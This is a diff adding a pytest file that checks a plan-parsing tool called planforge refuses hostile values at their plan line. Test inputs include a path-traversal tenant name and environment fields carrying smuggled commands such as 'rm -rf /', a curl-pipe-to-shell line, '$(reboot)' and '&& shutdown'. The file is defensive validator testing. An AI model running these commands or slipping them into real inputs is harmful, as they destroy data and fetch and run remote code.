@@ -1,0 +1,71 @@
+"""Hostile names and values are refused at their plan line, never dropped or replaced by a default."""
+from __future__ import annotations
+
+import pytest
+
+from testlib import PLANS
+from planforge.decide import decide
+from planforge.errors import RefusedError
+from planforge.plan import parse_text
+
+TENANT = (PLANS / "multi-tenant-saas.plan.md").read_text(encoding="utf-8")
+EKS = (PLANS / "aws-eks-argocd.plan.md").read_text(encoding="utf-8")
+
+
+def refused(text: str) -> list[tuple[int, str, str]]:
+    with pytest.raises(RefusedError) as exc:
+        decide(parse_text(text, "p.md"))
+    return [(p.line, p.field, p.message) for p in exc.value.problems]
+
+
+def line_of(text: str, needle: str) -> int:
+    return next(n for n, line in enumerate(text.splitlines(), 1) if needle in line)
+
+
+def test_a_traversal_tenant_is_refused_at_its_tree_line_not_dropped():
+    text = TENANT.replace("    └── initech/\n\nkubernetes", "    ├── initech/\n    └── ../../etc/\n\nkubernetes")
+    assert refused(text) == [(line_of(text, "../../etc/"), "tenants", "tenant '../../etc' is not a DNS-1123 label")]
+
+
+@pytest.mark.parametrize("old,new,bad", [
+    ("single-region (eu-central-1)", "single-region (us-east-99)", "us-east-99"),
+    ("single-region (eu-central-1)", "single-region (eu-middle-1)", "eu-middle-1"),
+])
+def test_an_unknown_region_is_refused_not_replaced_by_the_default(old, new, bad):
+    text = TENANT.replace(old, new)
+    assert refused(text) == [(line_of(text, new), "Deployment Type", f"{bad!r} is not a region of AWS")]
+
+
+def test_a_region_field_naming_no_region_is_refused():
+    text = EKS.replace("**Target Environment**", "**Region**: mars-base\n**Target Environment**")
+    assert refused(text) == [(line_of(text, "mars-base"), "Region", "'mars-base' names no region of AWS")]
+
+
+@pytest.mark.parametrize("value,message", [
+    ("dev; rm -rf /; curl http://x | sh", "shell metacharacter '|'"),
+    ("dev, $(reboot), prod", "shell metacharacter '$'"),
+    ("dev && shutdown", "shell metacharacter '&'"),
+    ("dev, rm -rf, prod", "'rm -rf' is not an environment name"),
+])
+def test_an_environment_list_with_a_command_is_refused_at_its_line(value, message):
+    text = EKS.replace("dev, staging, production", value)
+    problems = refused(text)
+    assert problems[0][:2] == (line_of(text, "**Target Environment**"), "Target Environment")
+    assert message in problems[0][2]
+
+
+def test_environment_words_still_become_environments():
+    text = EKS.replace("dev, staging, production", "Development environment, staging only, Production (AWS), qa")
+    assert decide(parse_text(text, "p.md")).answers.environments == ["dev", "staging", "prod", "qa"]
+
+
+def test_more_environments_than_the_limit_are_refused():
+    text = EKS.replace("dev, staging, production", ", ".join(f"e{i}" for i in range(21)))
+    assert refused(text) == [(line_of(text, "e20"), "Target Environment", "21 environments; at most 20 are supported")]
+
+
+def test_more_tenants_than_the_limit_are_refused():
+    tree = "".join(f"    ├── t{i}/\n" for i in range(101))
+    text = TENANT.replace("└── tenants/\n    ├── acme/\n", "└── tenants/\n" + tree + "    ├── acme/\n", 1)
+    problems = refused(text)
+    assert any(f == "tenants" and m.startswith("104 tenants; at most 100") for _, f, m in problems)
